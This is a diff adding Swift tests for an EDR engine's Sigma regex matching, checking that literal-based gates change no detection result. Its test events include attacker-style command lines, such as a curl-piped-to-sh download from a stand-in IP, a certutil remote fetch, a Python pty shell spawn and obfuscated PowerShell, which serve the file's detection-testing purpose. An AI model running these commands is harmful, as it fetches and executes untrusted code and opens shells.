@@ -1,0 +1,125 @@
+import EDRCore
+import EDRRegex
+@testable import EDRSigma
+import Foundation
+import Testing
+
+/// The literal a regex's every match holds (`RegexLiteral`), and the gate the engine builds
+/// from it: a rule with only regexes waits for the literal instead of running for every event,
+/// and no result changes.
+struct RegexGateTests {
+    private func lit(_ p: String, caseless: Bool = false) -> String? {
+        RegexLiteral.required(p, caseless: caseless).map { String(decoding: $0, as: UTF8.self) }
+    }
+
+    @Test func literalsTheMatchMustHold() {
+        #expect(lit(#"ipconfig\s+/all"#) == "ipconfig")
+        #expect(lit(#"net\s+config"#) == "config")
+        #expect(lit(#"\.exe\b"#) == ".exe")
+        #expect(lit(#"Invoke-Mimikatz"#) == "invoke-mimikatz")  // folded like event values
+        #expect(lit(#"abcd?efgh"#) == "efgh")  // d is optional: "abc" and "efgh" are the runs
+        #expect(lit(#"abcd+efg"#) == "abcd")  // d at least once: "abcd", then "efg"
+        #expect(lit(#"abcd{2}efg"#) == "abcd")
+        #expect(lit(#"abcd{0,2}efgh"#) == "efgh")
+        #expect(lit(#"abcd*"#) == "abc")
+        #expect(lit(#"(?:powershell)\s+-enc"#) == "powershell")  // a group that must match
+        #expect(lit(#"(?:powershellx)?\s+-enco"#) == "-enco")  // an optional group adds nothing
+        #expect(lit(#"(?:powershell|pwsh)\.exe"#) == ".exe")  // an alternation inside a group adds nothing
+        #expect(lit(#"(?=longlookahead)abc"#) == "abc")  // lookarounds are skipped
+        #expect(lit(#"\x41\x42CDEF"#) == "cdef")  // escape digits are not literal characters
+        #expect(lit(#"\x{41}BCDE"#) == "bcde")
+        #expect(lit(#"\p{L}wxyz"#) == "wxyz")
+        #expect(lit(#"\pLwxyz"#) == "wxyz")
+        #expect(lit(#"[abc]defg[hij]"#) == "defg")
+        #expect(lit(#"[]abc]defg"#) == "defg")  // ] first in a class is a member
+        #expect(lit(#"a\n\n\nb"#) == "a\n\n\nb")
+        #expect(lit(#"C:\\Windows\\"#) == #"c:\windows\"#)
+        #expect(lit(#"ÄBCD"#) == "äbcd")  // non-ASCII folds per scalar, as event values do
+    }
+
+    @Test func noLiteralWhenNoneIsCertain() {
+        #expect(lit(#"abc|def"#) == nil)  // alternation at the top
+        #expect(lit(#"ab.cd"#) == nil)  // runs shorter than 3
+        #expect(lit(#"(?x) a b c d e"#) == nil)  // extended mode: spaces mean nothing
+        #expect(lit(#"\Qabcdef\E"#) == nil)
+        #expect(lit(#"(abc)\1defg"#) == nil)  // back references are not understood
+        #expect(lit(#"abc)"#) == nil)
+        #expect(lit(#"*abc"#) == nil)
+    }
+
+    @Test func caselessMatchingKeepsOnlyCharactersWithoutUnicodeCaseMates() {
+        // Caseless PCRE2 in UTF mode matches s with U+017F and k with U+212A, which fold to
+        // neither: those characters break the literal.
+        #expect(lit(#"netsh\s+wlan"#, caseless: true) == "wlan")
+        #expect(lit(#"(?i)netsh\s+wlan"#) == "wlan")
+        #expect(lit(#"(?i)mimikatz"#) == "mimi")
+        #expect(lit(#"ÄBCDE"#, caseless: true) == "bcde")
+        #expect(lit(#"netsh\s+wlan"#) == "netsh")  // case-sensitive: s stays
+    }
+
+    @Test func theGateMakesRegexRulesCandidatesAndChangesNoResult() throws {
+        let det = """
+            selection:
+                CommandLine|re|i: 'netsh\\s+wlan\\s+show'
+            condition: selection
+            """
+        let on = engine(ruleYAML(det)),
+            off = engine(
+                ruleYAML(det),
+                options: {
+                    var o = SigmaOptions(); o.regexGates = false; return o
+                }())
+        #expect(on.unitSummary.first?.unanchored == 0)  // waits for the literal
+        #expect(off.unitSummary.first?.unanchored == 1)  // evaluated for every event
+        for cmd in [
+            "netsh wlan show profiles", "NETSH   WLAN SHOW profile", "netſh wlan show", "netsh wlan shoW", "NETſH WLAN ſHOW",
+            "netsh wlan", "wlan show netsh", "ipconfig /all"
+        ] {
+            let e = ev([("CommandLine", .string(cmd))])
+            let ungated = !off.evaluate(e).isEmpty
+            #expect(!on.evaluate(e).isEmpty == ungated, "\(cmd)")
+            // The reference: PCRE2 itself.
+            let re = try #require(try? PCREPattern(#"netsh\s+wlan\s+show"#, options: [.utf, .caseless]))
+            #expect(ungated == cmd.utf8.withContiguousStorageIfAvailable { re.matches($0, PCREMatchData().pointer) }!, "\(cmd)")
+        }
+    }
+
+    /// The whole SigmaHQ Linux and Windows corpus with and without gates, over the event mix and
+    /// command lines made to hit gated regexes (each with its case changed): the same matches.
+    @Test func theCorpusMatchesTheSameWithAndWithoutGates() throws {
+        let root = corpusRoot() + "/sigmahq/rules"
+        try #require(FileManager.default.fileExists(atPath: root + "/windows"), "corpus missing at \(root)")
+        let paths = [root + "/linux", root + "/windows"]
+        let on = try SigmaEngine.load(paths: paths)
+        var o = SigmaOptions(); o.regexGates = false
+        let off = try SigmaEngine.load(paths: paths, options: o)
+        let unanchoredOn = on.unitSummary.reduce(0) { $0 + $1.unanchored }, unanchoredOff = off.unitSummary.reduce(0) { $0 + $1.unanchored }
+        #expect(unanchoredOn < unanchoredOff, "gates anchor regex-only rules: \(unanchoredOn) vs \(unanchoredOff)")
+        var events = SigmaEventMix.events(count: 3000, windows: true)
+        let lines = [
+            "ipconfig /all", "IPCONFIG   /ALL", "net config workstation", "route print", "arp -a", "nbtstat -n",
+            #"cmd /c set a=1&&set b=invoke&&echo ""#, #"c:\x\wsass.exe "c:\windows\system32\werfaultsecure.exe" 652"#,
+            "powershell ${e`Nv:pATh}", #"powershell "{0}{1}" -f 'a','b'"#, "certutil -urlcache -split -f http://x/a.exe",
+            "bash -c 'curl http://198.51.100.7/x.sh | sh'", "python3 -c 'import pty;pty.spawn(\"/bin/sh\")'"
+        ]
+        for (k, line) in lines.enumerated() {
+            for variant in [line, line.uppercased(), line.lowercased()] {
+                events.append(
+                    Event(
+                        logsource: LogSource(product: "windows", category: "process_creation"), timestamp: Double(k),
+                        fields: [("Image", #"C:\Windows\System32\cmd.exe"#), ("CommandLine", .string(variant))]))
+                events.append(
+                    Event(
+                        logsource: LogSource(product: "linux", category: "process_creation"), timestamp: Double(k),
+                        fields: [("Image", "/usr/bin/bash"), ("CommandLine", .string(variant))]))
+            }
+        }
+        var total = 0
+        for e in events {
+            let a = on.evaluate(e).map { $0.rule.path }.sorted(), b = off.evaluate(e).map { $0.rule.path }.sorted()
+            #expect(a == b, "\(e.logsource) \(e["CommandLine"].map { "\($0)" } ?? "")")
+            total += a.count
+        }
+        #expect(total > 100, "the events hit rules: \(total) matches")
+    }
+}
